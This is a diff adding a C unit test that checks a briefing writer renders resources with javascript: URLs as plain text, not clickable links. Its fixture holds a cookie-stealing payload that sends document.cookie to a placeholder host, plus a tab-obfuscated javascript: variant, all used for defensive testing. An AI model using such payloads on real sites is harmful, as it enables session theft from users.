@@ -307,6 +307,28 @@ static void test_disclosure_findings(void **state)
 	disclosure_list_free(&found);
 }
 
+/* A resource that reached the writer with a javascript: url (the loaders refuse one; this one
+ * is built by hand) is listed as plain text, never as a link. */
+static void test_resource_link_defensive(void **state)
+{
+	struct fixture *f = *state;
+	assert_ok(f, demo_create(f->st, f->tpl, &f->audit, &f->err));
+	const struct resource res[] = {
+	    {.title = "Evil", .url = "javascript:fetch('https://x.example/'+document.cookie)"},
+	    {.title = "Tabbed", .url = "java\tscript:alert(1)"},
+	    {.title = "Good", .url = "https://example.org/procedures"}};
+	struct briefing_options opt = {.resources = res, .nresources = 3};
+	struct disclosure_list found = {0};
+	char *md = write_briefing(f, &opt, &found);
+	assert_null(strstr(md, "](java"));
+	assert_null(strstr(md, "[Evil]"));
+	assert_null(strstr(md, "[Tabbed]"));
+	assert_non_null(strstr(md, "- Evil ("));
+	assert_non_null(strstr(md, "[Good](https://example.org/procedures)"));
+	free(md);
+	disclosure_list_free(&found);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -314,6 +336,7 @@ int main(void)
 	    cmocka_unit_test_setup_teardown(test_no_findings_and_layouts, setup, teardown),
 	    cmocka_unit_test_setup_teardown(test_hostile_text, setup, teardown),
 	    cmocka_unit_test_setup_teardown(test_disclosure_findings, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_resource_link_defensive, setup, teardown),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
